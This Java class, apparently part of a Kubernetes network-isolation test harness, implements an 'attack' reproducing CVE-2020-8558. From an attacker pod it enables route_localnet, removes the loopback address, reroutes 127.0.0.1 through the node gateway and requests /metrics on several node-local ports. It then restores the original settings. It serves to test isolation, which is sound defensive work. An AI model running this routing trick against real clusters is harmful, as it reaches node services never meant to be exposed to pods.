package dev.rolecall.isolation.attack.reach;

import dev.rolecall.isolation.attack.Attack;
import dev.rolecall.isolation.cluster.Cast;
import dev.rolecall.isolation.foothold.Answer;
import dev.rolecall.isolation.foothold.Foothold;
import dev.rolecall.isolation.rig.Namespace;
import dev.rolecall.isolation.rig.PodNetwork;
import dev.rolecall.isolation.scene.Http;
import dev.rolecall.isolation.scene.Outcome;
import dev.rolecall.isolation.scene.Scene;
import java.util.ArrayList;
import java.util.List;

/**
 * Sends packets for 127.0.0.1 to the node, where the agent's health and metrics are
 * (CVE-2020-8558).
 */
public final class NodeLoopback implements Attack {
  @Override
  public String name() {
    return "node-loopback";
  }

  @Override
  public String does() {
    return "routes 127.0.0.1 to the node and asks for what listens on loopback there";
  }

  @Override
  public Outcome run(Scene scene) {
    Namespace pod = scene.attachment(Cast.ATTACKER).namespace();
    String gateway = scene.network().gateway();
    pod.set("net/ipv4/conf/" + PodNetwork.IN_POD + "/route_localnet", "1");
    pod.ip("addr del 127.0.0.1/8 dev lo");
    try (Foothold attacker = scene.another(Cast.ATTACKER)) {
      pod.triesIp("route flush table local 127.0.0.0/8");
      pod.triesIp(
          "route add 127.0.0.1/32 via %s dev %s onlink".formatted(gateway, PodNetwork.IN_POD));
      List<Answer> answers = new ArrayList<>();
      for (int port : new int[] {8480, 8491, 8494}) {
        answers.add(
            attacker.askFrom(
                Cast.ATTACKER.place().v4(),
                "127.0.0.1",
                port,
                Http.request("GET", "/metrics", "127.0.0.1")));
      }
      return scene.anyByte(answers);
    } finally {
      pod.triesIp("route del 127.0.0.1/32");
      pod.ip("addr add 127.0.0.1/8 dev lo");
      pod.set("net/ipv4/conf/" + PodNetwork.IN_POD + "/route_localnet", "0");
    }
  }
}
